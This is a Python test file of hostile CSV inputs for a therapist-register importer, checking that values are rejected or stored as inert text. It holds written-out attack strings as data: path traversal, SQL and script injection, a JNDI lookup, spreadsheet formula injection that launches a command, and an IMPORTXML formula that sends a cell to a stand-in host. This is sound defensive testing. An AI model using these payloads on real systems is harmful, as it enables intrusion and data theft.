"""Sound tables whose values are wrong, huge, or meant to be run by somebody."""

import csv
import io
from collections.abc import Iterator

from tests.hostile.case import Case, file_case, of, table

LICENSED = {
    "id": "h1",
    "name": "Ann Lee",
    "license": "lcsw",
    "claimed": "no",
    "license_1_title": "LCSW",
    "license_1_state": "CA",
    "license_1_number": "123",
}


def cells(**changes: str) -> bytes:
    """Return a table of one licensed person of the register, with changed cells."""
    row = {**LICENSED, **changes}
    file = io.StringIO(newline="")
    csv.writer(file).writerows([row.keys(), row.values()])
    return file.getvalue().encode("utf-8", "surrogatepass")


def _wrong(column: str, *values: str, says: str = "") -> Iterator[Case]:
    for value in values:
        name = f"{column} is {value[:40]!r} of {len(value):,}"
        yield Case(name, of(cells(**{column: value})), errors=1, says=says or column)


def _harmless(column: str, *values: str) -> Iterator[Case]:
    """Values that come in as the texts that they are, or are left out with a warning."""
    for value in values:
        yield Case(f"{column} is {value[:40]!r}", of(cells(**{column: value})), created=1)


CASES = (
    *_wrong(
        "license_1_expires",
        *("2027-02-30", "2027-13-01", "0000-00-00", "31/12/2027", "13/13/2027", "5/31/27"),
        *("2027-W01-1", "2027-151", "tomorrow", "10000-01-01", "2/30/2027", "0/0/2027"),
        *("May 31, 2027", "2027-05-31T25:00", "２０２７-05-31", "-2027-05-31", "31.05.2027"),
        *("1e9", "2027-5-31", "99999999999999999999", "''", "NaN"),
        says="license_1_expires",
    ),
    *_wrong("id", "ANN", "a b", "../../etc/passwd", "a" * 65, "é", "🙂", "a;b", "%00", "a/b"),
    *_wrong("npi", "12", "1234567890", "abcdefghij", "1922001973.5", "1.922E+09", "١٩٢٢٠٠١٩٧٣"),
    *_wrong("npi", "9" * 60_000),
    *_wrong("license", "lawyer", "LCSW; drop table", "psychologist|lcsw", "MD", "0", "true"),
    *_wrong("license_1_state", "XX", "Californication", "C A", "ZZ", "ca;ny", "1"),
    *_wrong("license_1_title", "MD", says="license"),
    *_wrong("fee_min", "1e400", "nan", "inf", "-5", "0x10", "1,000", "$90", "9" * 4000, "--5"),
    *_wrong("next_opening_days", "-1", "1.5", "1e99", "9" * 5000, "soon"),
    *_wrong("location_1_lat", "999", "nan", "40.7N", says="location"),
    *_wrong("website", "javascript:alert(1)", "data:text/html,x", "//x", "http://", "file:///etc"),
    *_wrong("website", 'https://x.org/"onload=', says="website"),
    *_wrong("name", " ", "Ann\nLee", "x" * 5000, "We offer conversion therapy"),
    *_wrong("bio", "x" * 6001, "x" * 70_000, "I offer reparative therapy to stop being gay."),
    *_wrong("published", "maybe", "2", "=TRUE()"),
    *_wrong("practice_id", "only-an-id", says="practice"),
    *_wrong("claimed", "yes", "perhaps", says="service_intent|claimed"),
    *_wrong("group_1_seats", "-1", "many", says="group"),
    *_harmless(
        "name",
        "<script>alert(1)</script>",
        "'; DROP TABLE provider; --",
        "{{ 7 * 7 }}",
        "${jndi:ldap://x}",
        "../../../etc/passwd",
        "%s%s%s%n",
        "A" * 60,
        "\u202eeeL nnA",
        "Ann\u200bLee",
        "Z̸̡̛a̸l̵g̷o̶",
        "=HYPERLINK(A1)",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'=1+1",
        "＝1+1",
        '=IMPORTXML(CONCAT("http://x",A1),"//a")',
    ),
    *_harmless("phone", "12", "=1+1", "911", "tel:x", "1e10", "9" * 60_000),
    *_harmless("gender", "attack helicopter", "=1", "x" * 60_000),
    *_harmless("concerns", "|" * 60_000, "panic|nothing", "=1", ";".join(["x"] * 5000)),
    *_harmless("payers", "'; --", "a" * 60_000),
    *_harmless("license_1_number", "'=1+1", "12|34", "½", "0" * 90),
    *_harmless("email", "not an address"),
    Case(
        "the same listing a thousand times",
        of(table(*["h1,Ann Lee,coach,support"] * 1000)),
        created=1,
        skipped=999,
    ),
    Case(
        "two listings with one NPI",
        of(
            table(
                "h1,A,coach,support,1922001973",
                "h2,B,coach,support,1922001973",
                titles="id,name,license,service_intent,npi",
            )
        ),
        created=1,
        skipped=1,
    ),
    file_case("a mapping of nothing", table(titles="id,name,license,="), "unknown column"),
    Case(
        "a cell of ten million characters",
        lambda: cells(bio="x" * 10_000_000),
        errors=1,
        says="64 KB|too long",
        heavy=True,
    ),
    Case(
        "a row of eleven million characters",
        lambda: cells(bio="x" * 11_000_000),
        errors=1,
        says="too long",
        heavy=True,
    ),
    Case(
        "twenty thousand broken rows",
        lambda: table(*["x,y"] * 20_000),
        errors=20_000,
        says="values where",
        heavy=True,
    ),
    Case(
        "a quote never closed in a file of 20 MB",
        lambda: table('h1,"Ann', *["x" * 1000] * 20_000),
        any_answer=True,
        heavy=True,
    ),
    Case(
        "a million quotes on a line",
        lambda: cells(bio="x") + b'"' * 1_000_001,
        created=1,
        errors=1,
        says="quote",
        heavy=True,
    ),
)
